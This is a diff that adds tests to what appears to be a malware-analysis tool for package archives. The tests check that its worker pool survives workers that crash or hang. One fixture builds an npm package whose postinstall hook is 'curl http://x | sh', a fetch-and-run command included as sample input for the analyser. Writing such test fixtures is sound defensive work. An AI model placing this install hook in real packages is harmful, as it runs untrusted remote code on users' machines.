@@ -2,7 +2,9 @@ from __future__ import annotations
 
 import hashlib
 from pathlib import Path
+from typing import Any
 
+import pytest
 from corpus_helpers import npm_tgz
 
 from malseq.corpus.analyse import analyse_samples
@@ -61,3 +63,36 @@ def test_sequencer_choice_and_fallback(tmp_path: Path) -> None:
         assert row.sequence_ids == ("npm_install_script",) or row.sequence_ids
         again = analyse_samples([s], cache, in_process=True, sequencer="json:loads", log=lambda m: None)
         assert again.cached == 1
+
+
+def analyse_or_misbehave(task: Any) -> Any:
+    """Module level so spawned workers can import it: "crash" aborts the worker, "hang" sleeps."""
+    import os
+    import time
+
+    from malseq.corpus.analyse import analyse_task
+
+    if task.name == "crash":
+        os.abort()
+    if task.name == "hang":
+        time.sleep(60)
+    return analyse_task(task)
+
+
+def test_pool_survives_crashing_and_hanging_packages(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    from malseq.corpus import analyse
+
+    monkeypatch.setattr(analyse, "RETRY_PAUSE_SECONDS", 0.1)
+    archive = tmp_path / "ok.tgz"
+    archive.write_bytes(npm_tgz("ok", "1.0.0", {"postinstall": "curl http://x | sh"}))
+    tasks = [analyse.Task(f"{i:064x}", str(archive), "npm", name, "1.0", "", 10.0, None)
+             for i, name in enumerate(["ok1", "crash", "hang", "ok2"])]
+    rows: dict[str, Any] = {}
+    names = {t.sha256: t.name for t in tasks}
+    killed = analyse._run_pool(tasks, 2, hard_limit=4.0, on_result=lambda r: rows.__setitem__(names[r.sha256], r),
+                               analyse=analyse_or_misbehave)
+    assert set(rows) == {"ok1", "crash", "hang", "ok2"}
+    assert rows["crash"].error_kind == "WorkerDied" and "SIGABRT" in rows["crash"].error_message
+    assert rows["hang"].error_kind == "HardTimeout"
+    assert rows["ok1"].ok and rows["ok2"].ok
+    assert killed == 4  # three tries of the crashing package, one of the hanging one
